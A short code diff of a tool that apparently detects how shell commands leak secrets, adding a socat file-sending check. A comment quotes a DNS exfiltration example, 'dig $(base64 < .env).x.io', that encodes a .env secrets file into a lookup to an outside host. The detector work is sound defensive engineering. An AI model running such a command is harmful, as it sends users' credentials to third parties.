@@ -9,7 +9,7 @@ import { classifyUrl, fileUrlPath, remoteSpecUrl } from "../urls.js";
 import type { ClassifiedUrl } from "../../model/classification.js";
 import { GAP_SHAPE } from "../../model/gap-shapes.js";
 import { attrs, emitPath, gap, pathTarget, resolveAll, substGap, targetText, type Attrs, type Ctx } from "./common.js";
-import { sshRemoteForward } from "./expose.js";
+import { socatFile, sshRemoteForward } from "./expose.js";
 import { removeSource } from "./source-removal.js";
 import type { Handler } from "./filesystem.js";
 import { headerCarrier, sendSecretVariables, sendStdin, sendSubstitutedSecrets, type Carrier } from "./flow.js";
@@ -429,6 +429,7 @@ function socketSender(ctx: Ctx): void {
   }
   sendStdin(ctx);
   sendSubstitutedSecrets(ctx);
+  if (ctx.program === "socat") socatFile(ctx);
 }
 
 /** DNS and ping tools send their arguments: a secret substituted into a name leaves in the query (`dig $(base64 < .env).x.io`). */
